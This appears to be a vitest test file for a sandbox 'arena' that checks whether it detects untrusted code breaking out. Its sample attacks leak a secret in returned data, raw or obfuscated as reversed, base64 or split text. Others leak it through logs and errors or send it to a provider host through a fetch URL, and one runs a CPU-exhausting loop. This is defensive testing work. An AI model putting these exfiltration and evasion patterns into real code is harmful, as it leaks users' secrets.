import { writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { once } from 'node:events'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { ask, publish } from '../contract/ask.ts'
import { Arena } from './arena.ts'
import { NEIGHBOUR_CODE } from './javascript/neighbour-code.ts'
import { fetchData } from './javascript/module.ts'

// What the arena says of an attack counts only when it would see one that succeeds.
let arena: Arena
beforeAll(async () => {
  arena = await Arena.open({ language: 'javascript', neighbourCode: NEIGHBOUR_CODE })
})
afterAll(() => arena.close())

describe('the arena sees', () => {
  it('nothing wrong with code that does nothing wrong', async () => {
    const attack = { name: 'none', code: fetchData(''), ends: [] }
    expect(await arena.suffer(attack)).toMatchObject({ ending: 'harmless', breaches: [] })
    await expect.poll(() => arena.neighbour.answered).toBeGreaterThan(0)
    expect(await arena.breaches()).toEqual([])
  })

  it.each([
    ['as it is', 'loot'],
    ['backwards', `[...loot].reverse().join('')`],
    ['in base64', `btoa(loot)`],
    ['in base64 behind something', `btoa('x' + loot)`],
    ['letter by letter', `[...loot]`],
  ])('a word of another place in an answer, %s', async (_, spelling) => {
    // The attack is given it, as if it had got it.
    const loot = arena.steal()
    const code = fetchData(`const loot = ctx.secrets.loot; return { summary: 's', raw: ${spelling} }`)
    const attack = { name: 'thief', code, ends: [], context: { secrets: { loot } } }
    expect((await arena.suffer(attack)).breaches).toEqual(['it got a file outside'])
  })

  it.each([
    ['a log line', 'ctx.log.info(ctx.secrets.loot)'],
    ['an error', 'throw new Error(ctx.secrets.loot)'],
  ])('one in %s', async (_, body) => {
    const attack = { name: 'thief', code: fetchData(body), ends: [], context: { secrets: { loot: arena.steal() } } }
    expect((await arena.suffer(attack)).breaches).toEqual(['it got a file outside'])
  })

  it('one that is sent to a provider', async () => {
    const code = fetchData('await ctx.fetch("http://" + ctx.config.provider + "/?" + ctx.secrets.loot)')
    const context = { secrets: { loot: arena.steal() }, hosts: [arena.targets.provider] }
    await arena.suffer({ name: 'sender', code, ends: [], context })
    expect(await arena.breaches()).toContain('the provider got a file outside')
  })

  it('a connection, a file, a neighbour that is wrong, and one that is not asked', async () => {
    const socket = connect(arena.targets.tcpPort, '127.0.0.1')
    await once(socket, 'close')
    writeFileSync(join(arena.targets.openFolder, arena.targets.mark), '')
    arena.neighbour.errors.push('nonsense')
    expect(await arena.breaches()).toEqual(
      expect.arrayContaining([
        'somebody was heard: tcp: a connection',
        `a file was written to ${arena.targets.openFolder}`,
        'the neighbour answered: nonsense',
      ]),
    )
  })

  it('that something still computes', async () => {
    const hash = await publish(arena.runner, fetchData('const end = Date.now() + 60000; while (Date.now() < end);'))
    const controller = new AbortController()
    const context = { limits: { wallMs: 60_000, cpuMs: 60_000 } as never }
    const busy = ask(arena.runner, hash, { context, signal: controller.signal })
    await expect.poll(() => arena.idleUse(), { timeout: 10_000 }).toBeUndefined()
    controller.abort()
    await busy
  })
})
